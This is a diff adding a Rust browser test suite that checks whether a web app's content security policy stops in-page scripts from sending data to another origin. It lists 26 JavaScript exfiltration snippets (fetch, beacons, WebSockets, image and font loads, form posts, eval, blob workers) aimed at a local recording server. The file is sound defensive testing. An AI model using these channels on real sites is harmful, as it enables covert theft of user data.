@@ -1,0 +1,209 @@
+//! What the content security policy stops: from inside the page everything is tried that could carry a film away. The
+//! same is tried with the policy in the page alone, as on servers that send no headers, and without any, to see that it
+//! would arrive.
+//!
+//! Two ways are open to a script that runs in the page, and no script but the site's own does: to go to another address,
+//! and WebRTC. Browsers have no policy against either.
+
+use std::collections::BTreeMap;
+use std::net::{Ipv4Addr, TcpListener};
+use std::sync::{Arc, Mutex};
+
+use axum::Router;
+use axum::extract::Request;
+use axum::http::header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE, HeaderName};
+use axum::http::{HeaderMap, HeaderValue};
+use axum::middleware::{Next, from_fn};
+use axum::response::{Html, IntoResponse};
+use axum::routing::get;
+use serde_json::{Value, json};
+use xtask::build::dist;
+use xtask::headers;
+use xtask::site::{files, router};
+
+use crate::browser::{Browser, Visit};
+use crate::offline::until_kept;
+
+/// Ways out: a name, a script in which `at` is an address of another site, and the directive that forbids it.
+const WAYS: [(&str, &str, &str); 26] = [
+    ("fetch", "fetch(at, { method: 'POST', mode: 'no-cors', body: 'film' })", "connect-src"),
+    ("request", "const r = new XMLHttpRequest(); r.open('POST', at); r.send('film')", "connect-src"),
+    ("beacon", "navigator.sendBeacon(at, 'film')", "connect-src"),
+    ("socket", "new WebSocket(at.replace('http', 'ws'))", "connect-src"),
+    ("events", "new EventSource(at)", "connect-src"),
+    ("ping", "add('a', { href: '#/learn', ping: at }).click()", "connect-src"),
+    ("image", "new Image().src = at", "img-src"),
+    ("icon", "add('link', { rel: 'preload', as: 'image', href: at })", "img-src"),
+    ("sound", "const s = new Audio(); s.src = at; s.load()", "media-src"),
+    ("font", "new FontFace('x', `url(${at})`).load()", "font-src"),
+    ("sheet", "add('link', { rel: 'stylesheet', href: at })", "style-src-elem"),
+    ("style", "add('p', { style: `background: url(${at})` }).textContent = 'p'", "style-src-attr"),
+    ("rules", "add('style').textContent = `body { background: url(${at}) }`", "style-src-elem"),
+    ("prefetch", "add('link', { rel: 'prefetch', href: at })", "default-src"),
+    ("frame", "add('iframe', { src: at })", "frame-src"),
+    ("object", "add('object', { data: at })", "require-trusted-types-for"),
+    ("form", "add('iframe', { name: 'f' }); add('form', { action: at, target: 'f' }).submit()", "form-action"),
+    ("base", "add('base', { href: at }); fetch('./base')", "base-uri"),
+    ("module", "import(at)", "script-src-elem"),
+    ("script", "add('script').src = at", "require-trusted-types-for"),
+    ("inline", "add('script').textContent = `fetch('${at}')`", "require-trusted-types-for"),
+    ("handler", "add('button', { onclick: `fetch('${at}')` }).click()", "require-trusted-types-for"),
+    ("markup", "add('p').innerHTML = `<img src=${at}>`", "require-trusted-types-for"),
+    ("document", "add('iframe').srcdoc = `<img src=${at}>`", "require-trusted-types-for"),
+    ("eval", "eval(`fetch('${at}')`)", "require-trusted-types-for"),
+    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${at}')`])))", "require-trusted-types-for"),
+];
+
+/// Tries one way, from a task of the page's own, as the driver's may more; gives the directives that were violated.
+const TRY: &str = "const [at] = arguments; \
+    const add = (name, attributes = {}) => { \
+        const element = document.createElement(name); \
+        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value); \
+        return document.body.appendChild(element); \
+    }; \
+    const violated = []; \
+    const note = (event) => violated.push(event.effectiveDirective); \
+    document.addEventListener('securitypolicyviolation', note); \
+    window.tried = () => { WAY }; \
+    setTimeout(() => { try { Promise.resolve(tried()).catch(() => {}); } catch {} }); \
+    return new Promise((done) => setTimeout(() => { \
+        document.removeEventListener('securitypolicyviolation', note); \
+        done(violated); \
+    }, 300))";
+
+/// Another site, which remembers what was asked of it.
+#[derive(Clone)]
+struct Elsewhere {
+    address: String,
+    arrived: Arc<Mutex<Vec<String>>>,
+}
+
+impl Elsewhere {
+    fn start() -> Self {
+        let arrived = Arc::new(Mutex::new(Vec::new()));
+        let remembered = Arc::clone(&arrived);
+        let answer = move |request: Request| {
+            remembered.lock().expect("no panic in here").push(request.uri().path().trim_matches('/').to_owned());
+            async { ([(ACCESS_CONTROL_ALLOW_ORIGIN, "*")], "").into_response() }
+        };
+        Self { address: serve(Router::new().fallback(answer)), arrived }
+    }
+
+    fn arrived(&self) -> Vec<String> {
+        self.arrived.lock().expect("no panic in there").clone()
+    }
+}
+
+/// Serves from a thread of its own until the process ends; an address by number, so that it is another site than ours.
+fn serve(site: Router) -> String {
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a free port");
+    let port = listener.local_addr().expect("an address").port();
+    std::thread::spawn(move || {
+        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
+        runtime.block_on(xtask::site::serve_on(listener, site)).expect("it goes on");
+    });
+    format!("http://127.0.0.1:{port}")
+}
+
+/// The site as a server without headers sends it, and without the policy in the page.
+fn without_policy() -> Router {
+    files(&dist()).layer(from_fn(async |request: Request, next: Next| {
+        if request.uri().path() != "/" {
+            return next.run(request).await;
+        }
+        let page = std::fs::read_to_string(dist().join("index.html")).expect("the page");
+        let policy = headers::content_security_policy();
+        assert!(page.contains(&policy), "the page has the policy");
+        let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{policy}\">");
+        Html(page.replace(&meta, "")).into_response()
+    }))
+}
+
+/// What arrived elsewhere, and of each way the directives that it violated.
+async fn try_all(served: Router) -> (Vec<String>, BTreeMap<&'static str, Vec<String>>) {
+    let elsewhere = Elsewhere::start();
+    let browser = Browser::visit(Visit { served: Some(served), ..Visit::default() }).await;
+    browser.wait_for("[data-network=ready]").await;
+    let mut violated = BTreeMap::new();
+    for (name, way, _) in WAYS {
+        let at = format!("{}/{name}", elsewhere.address);
+        let found = browser.script(&TRY.replace("WAY", way), vec![at.into()]).await;
+        violated.insert(name, serde_json::from_value(found).expect("directives"));
+    }
+    browser.close().await;
+    (elsewhere.arrived(), violated)
+}
+
+#[tokio::test]
+async fn from_inside_the_page_nothing_gets_out() {
+    for (served, how) in [(router(&dist()), "with headers"), (files(&dist()), "the page alone")] {
+        let (arrived, violated) = try_all(served).await;
+        for (name, _, directive) in WAYS {
+            assert!(violated[name].iter().any(|found| found == directive), "{how}, {name}: {:?}", violated[name]);
+        }
+        assert!(arrived.is_empty(), "{how}: {arrived:?}");
+    }
+}
+
+#[tokio::test]
+async fn without_the_policy_all_of_it_would() {
+    let (arrived, violated) = try_all(without_policy()).await;
+    assert!(violated.values().all(Vec::is_empty), "{violated:?}");
+    let missing: Vec<_> =
+        WAYS.map(|(name, ..)| name).into_iter().filter(|name| !arrived.iter().any(|a| a == name)).collect();
+    assert!(missing.is_empty(), "the tests above show nothing of {missing:?}");
+}
+
+#[tokio::test]
+async fn a_worker_follows_the_policy_that_came_with_its_script() {
+    let elsewhere = Elsewhere::start();
+    let script = "fetch(new URLSearchParams(location.search).get('at'), { mode: 'no-cors' }) \
+        .then(() => postMessage('sent'), () => postMessage('not sent'))";
+    let policy = HeaderValue::try_from(headers::content_security_policy()).expect("a header");
+    let with_policy = HeaderMap::from_iter([
+        (CONTENT_TYPE, HeaderValue::from_static("text/javascript")),
+        (HeaderName::from_static("content-security-policy"), policy),
+    ]);
+    let served = without_policy()
+        .route("/guarded.js", get(move || async move { (with_policy, script) }))
+        .route("/bare.js", get(move || async move { ([(CONTENT_TYPE, "text/javascript")], script) }));
+    let browser = Browser::visit(Visit { served: Some(served), ..Visit::default() }).await;
+    let ask = "const worker = new Worker(`./${arguments[0]}.js?at=${arguments[1]}/${arguments[0]}`); \
+        return new Promise((done) => { worker.onmessage = (event) => done(event.data); })";
+    for (name, expected) in [("guarded", "not sent"), ("bare", "sent")] {
+        assert_eq!(browser.script(ask, vec![name.into(), elsewhere.address.clone().into()]).await, expected, "{name}");
+    }
+    assert_eq!(elsewhere.arrived(), ["bare"]);
+    browser.close().await;
+}
+
+#[tokio::test]
+async fn once_it_is_kept_workers_have_the_policy_on_servers_without_headers_too() {
+    let browser = Browser::visit(Visit { served: Some(files(&dist())), ..Visit::default() }).await;
+    let policy =
+        "return fetch('./worker_loader.js?worker').then(found => found.headers.get('content-security-policy'))";
+    assert_eq!(browser.script(policy, vec![]).await, Value::Null);
+    until_kept(&browser).await;
+    browser.reload().await;
+    browser.wait_for("[data-network=ready]").await;
+    assert_eq!(browser.script(policy, vec![]).await, json!(headers::content_security_policy()));
+    browser.close_without_errors().await;
+}
+
+#[tokio::test]
+async fn pages_that_are_isolated_from_other_origins_may_embed_it() {
+    let browser = Browser::open().await;
+    let site = browser.script("return location.href", vec![]).await;
+    let site = site.as_str().expect("an address").to_owned();
+    let page = Html(format!("<!DOCTYPE html><iframe src=\"{site}\"></iframe>"));
+    let isolation = [
+        (HeaderName::from_static("cross-origin-opener-policy"), "same-origin"),
+        (HeaderName::from_static("cross-origin-embedder-policy"), "require-corp"),
+    ];
+    let parent = serve(Router::new().fallback(move || async move { (isolation, page) }));
+    browser.window.goto(parent).await.expect("the page around it");
+    assert_eq!(browser.script("return crossOriginIsolated", vec![]).await, true);
+    browser.window.enter_frame(0).await.expect("a frame");
+    browser.wait_for("[data-network=ready]").await;
+    browser.close_without_errors().await;
+}
